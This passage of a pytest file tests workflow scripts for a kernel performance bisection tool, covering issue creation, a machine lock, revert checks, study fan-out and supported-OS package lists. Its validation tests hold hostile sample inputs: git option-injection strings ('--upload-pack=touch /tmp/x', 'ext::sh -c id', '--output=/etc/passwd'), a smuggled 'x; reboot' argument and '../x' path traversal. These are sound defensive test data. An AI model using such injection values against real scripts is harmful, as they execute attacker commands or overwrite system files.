    env = {**gh, "KBISECT_WORKFLOW": "rc-watch.yml", "GITHUB_STEP_SUMMARY": str(summary)}
    code, _, calls = script("keepalive", env)
    assert code == 0
    assert calls[0] == "api --method PUT repos/o/r/actions/workflows/rc-watch.yml/enable --silent"
    assert "is active" in summary.read_text()
    assert script("keepalive", {**env, "KBISECT_WORKFLOW": "../x"})[0] == 2


def test_rc_issue_opens_one_issue_per_flagged_tag_with_the_trend(
    gh: dict[str, str], tmp_path: Path
) -> None:
    (tmp_path / "report.md").write_text("## the report\n")
    (tmp_path / "trend.md").write_text("| tag | tps |\n| v6.13-rc2 | 100 |\n")
    title = "kbisect rc-watch: throughput regression in v6.13-rc1"
    (Path(gh["STUB_GH_DIR"]) / "issues").write_text(f"7\t{title}\n")
    env = {
        **gh,
        "KBISECT_REPORT": str(tmp_path / "report.md"),
        "KBISECT_TREND": str(tmp_path / "trend.md"),
        "KBISECT_TAGS": "v6.13-rc1 v6.13-rc2",
    }
    code, _, calls = script("rc-issue", env)
    assert code == 0
    assert [c.split(" --body-file")[0] for c in calls[1:]] == [
        "issue comment 7",
        "issue create --title kbisect rc-watch: throughput regression in v6.13-rc2",
    ]
    body = (Path(gh["STUB_GH_DIR"]) / "body").read_text()
    assert "## the report" in body and "## Trend over every recorded tag" in body
    assert "| v6.13-rc2 | 100 |" in body
    assert script("rc-issue", {**env, "KBISECT_TAGS": ""})[0] == 2


def test_machine_lock_runs_one_measurement_at_a_time(tmp_path: Path) -> None:
    lock = tmp_path / "machine.lock"
    env = {**os.environ, "KBISECT_MACHINE_LOCK": str(lock), "KBISECT_LOCK_WAIT": "0"}
    cmd = [str(CHECKOUT / "workflows" / "machine-lock"), "true"]
    assert proc.run(cmd, env=env, check=False).returncode == 0
    with lock.open("a") as held:
        fcntl.flock(held, fcntl.LOCK_EX)
        assert proc.run(cmd, env=env, check=False).returncode == 75
    assert proc.run(cmd, env=env, check=False).returncode == 0
    bad = {**env, "KBISECT_LOCK_WAIT": "soon"}
    assert proc.run(cmd, env=bad, check=False).returncode == 2


def test_revert_check_clones_and_compares(stub: dict[str, str], tmp_path: Path) -> None:
    env = {
        **stub,
        "KBISECT_TREE_URL": stub["KBISECT_UPSTREAM"],
        "KBISECT_BASE": "v6.13-rc1",
        "KBISECT_REVERT": "abc123",
        "KBISECT_TREE": str(tmp_path / "cache" / "t"),
        "STUB_EXIT": "1",
        "KBISECT_SCENARIO": "smoke",
    }
    code, outputs, calls = script("revert-check", env)
    assert code == 1  # compare's answer passes through
    assert (tmp_path / "cache" / "t" / ".git").is_dir()
    assert calls == [
        f"compare --tree {tmp_path}/cache/t --base v6.13-rc1 --revert abc123 "
        f"--scenario smoke --arch x86_64 --out {outputs['dir']}"
    ]
    assert "the revert is significantly slower" in Path(stub["GITHUB_STEP_SUMMARY"]).read_text()


@pytest.mark.parametrize(
    "args",
    [
        ["--upload-pack=touch /tmp/x"],
        ["ext::sh -c id"],
        ["https://x.invalid", "--output=/etc/passwd"],
    ],
)
def test_sync_tree_rejects_option_like_input(args: list[str], tmp_path: Path) -> None:
    result = proc.run(
        [str(CHECKOUT / "workflows" / "sync-tree"), str(tmp_path / "t"), *args], check=False
    )
    assert result.returncode == 2 and not (tmp_path / "t").exists()


def test_provision_runner_validates_before_changing_anything() -> None:
    path = str(CHECKOUT / "workflows" / "provision-runner")
    assert proc.run([path, "--help"], check=False).returncode == 0
    for bad in (["--hugepages", "lots"], ["--thp-defrag", "x; reboot"], ["--bogus"]):
        assert proc.run([path, *bad], check=False).returncode == 2


# study.yml: shares of a study on several machines (kbisect/study/fanout.py).


def test_study_shares_run_one_per_machine_on_trusted_events_only() -> None:
    wf = load("study.yml")
    assert triggers(wf) == {"workflow_dispatch"}
    assert all(is_self_hosted(job) for job in wf["jobs"].values())
    share = wf["jobs"]["share"]
    assert share["runs-on"] == ["self-hosted", "${{ matrix.runner }}"]
    assert "concurrency" not in share  # the runner and the machine lock serialise
    assert share["strategy"]["matrix"] == "${{ fromJSON(needs.plan.outputs.matrix) }}"
    assert wf["jobs"]["merge"]["needs"] == "share"


def test_study_plan_writes_a_matrix_of_whole_cells(tmp_path: Path) -> None:
    bin_dir = Path(__import__("sys").executable).parent  # the venv running the tests
    env = {
        "PATH": f"{bin_dir}:{__import__('os').environ['PATH']}",
        "KBISECT_STUDY": "hugepages-sweep",
        "KBISECT_RUNNERS": "3",
        "KBISECT_RUNNER_PREFIX": "metal-",
        "GITHUB_OUTPUT": str(tmp_path / "output"),
        "GITHUB_STEP_SUMMARY": str(tmp_path / "sum"),
        "HOME": str(tmp_path),
        "STUB_LOG": str(tmp_path / "calls"),
    }
    code, outputs, _ = script("study-plan", env)
    assert code == 0
    matrix = __import__("json").loads(outputs["matrix"])
    cells = sorted(c for share in matrix["include"] for c in share["cells"].split())
    assert cells == sorted(f"c{i}" for i in range(8))
    assert [s["runner"] for s in matrix["include"]] == ["metal-1", "metal-2", "metal-3"]
    for bad in ({"KBISECT_RUNNERS": "0"}, {"KBISECT_STUDY": "--help"}, {"KBISECT_STUDY": "../x"}):
        assert script("study-plan", {**env, **bad})[0] == 2


def test_study_share_and_merge_reject_bad_input(tmp_path: Path) -> None:
    base = {
        "PATH": __import__("os").environ["PATH"],
        "GITHUB_OUTPUT": str(tmp_path / "o"),
        "STUB_LOG": str(tmp_path / "calls"),
    }
    for bad in (
        {"KBISECT_STUDY": "x", "KBISECT_SHARE": "2"},
        {"KBISECT_STUDY": "-x", "KBISECT_SHARE": "1/2"},
        {"KBISECT_STUDY": "x", "KBISECT_SHARE": "1/2", "KBISECT_TARGET": "--help"},
        {"KBISECT_STUDY": "x", "KBISECT_SHARE": "1/2", "KBISECT_TARGET": "pool.toml"},
    ):
        assert script("study-share", {**base, **bad})[0] == 2
    (tmp_path / "empty").mkdir()
    assert script("study-merge", {**base, "KBISECT_SHARES_DIR": str(tmp_path / "empty")})[0] == 2


# scripts/host-packages and provision-runner: which systems, which packages (fake os-release).

OS_RELEASES = {
    "debian-12": 'PRETTY_NAME="Debian GNU/Linux 12 (bookworm)"\nID=debian\nVERSION_ID="12"\n',
    "ubuntu-22.04": 'NAME="Ubuntu"\nVERSION_ID="22.04"\nID=ubuntu\nID_LIKE=debian\n',
    "ubuntu-24.04": "ID='ubuntu'\nVERSION_ID='24.04'\nPRETTY_NAME='Ubuntu 24.04.1 LTS'\n",
}
UNSUPPORTED = {
    "Debian GNU/Linux 11 (bullseye)": (
        'PRETTY_NAME="Debian GNU/Linux 11 (bullseye)"\nID=debian\nVERSION_ID="11"\n'
    ),
    "Fedora Linux 40": 'PRETTY_NAME="Fedora Linux 40"\nID=fedora\nVERSION_ID=40\n',
    "linuxmint 21": "ID=linuxmint\nID_LIKE=ubuntu\nVERSION_ID=21\n",
    "ubuntu 23.10": "ID=ubuntu\nVERSION_ID=23.10\n",
}


def host_packages(os_release: Path, *args: str) -> proc.Result:
    cmd = [str(CHECKOUT / "scripts" / "host-packages"), "--os-release", str(os_release), *args]
    return proc.run(cmd, check=False)


@pytest.mark.parametrize("system", sorted(OS_RELEASES))
def test_host_packages_per_supported_system(system: str, tmp_path: Path) -> None:
    fake = tmp_path / "os-release"
    fake.write_text(OS_RELEASES[system])
    assert host_packages(fake, "--system").output.strip() == system
    result = host_packages(fake, "--strict")
    assert result.returncode == 0
    debs = result.output.split()
    assert {"qemu-system-x86", "mmdebstrap", "debian-archive-keyring", "git"} <= set(debs)
    assert ("linux-source-6.12" in debs) == (system == "debian-12")
    python = {"ubuntu-22.04": {"python3.11", "python3.11-venv"}}.get(system, {"python3-venv"})
    assert python <= set(debs) and len(debs) == len(set(debs))
    flags = [str(CHECKOUT / "workflows" / "provision-runner"), "--os-release", str(fake)]
    check = proc.run([*flags, "--check-os"], check=False)
    assert (check.returncode, check.output.strip()) == (0, f"provision: {system}: supported")


@pytest.mark.parametrize("name", sorted(UNSUPPORTED))
def test_unsupported_systems_are_refused_in_one_line(name: str, tmp_path: Path) -> None:
    fake = tmp_path / "os-release"
    fake.write_text(UNSUPPORTED[name])
    for cmd in (
        [str(CHECKOUT / "scripts" / "host-packages"), "--os-release", str(fake), "--strict"],
        # provision-runner refuses before the root check and before changing anything
        [str(CHECKOUT / "workflows" / "provision-runner"), "--os-release", str(fake)],
    ):
        result = proc.run(cmd, check=False)
        assert result.returncode == 2
        assert result.output.strip().splitlines() == [
            f"unsupported system: {name} ({fake}): "
            "kbisect supports Debian 12, Ubuntu 22.04 and Ubuntu 24.04"
        ]
    # scripts/setup (not --strict) tries Debian 12's list on other systems, with a warning
    lenient = host_packages(fake)
    assert lenient.returncode == 0 and "linux-source-6.12" in lenient.output
    assert "is not supported" in lenient.output


def test_missing_os_release_is_refused(tmp_path: Path) -> None:
    result = host_packages(tmp_path / "nothing", "--strict")
    assert result.returncode == 2 and "no readable os-release" in result.output
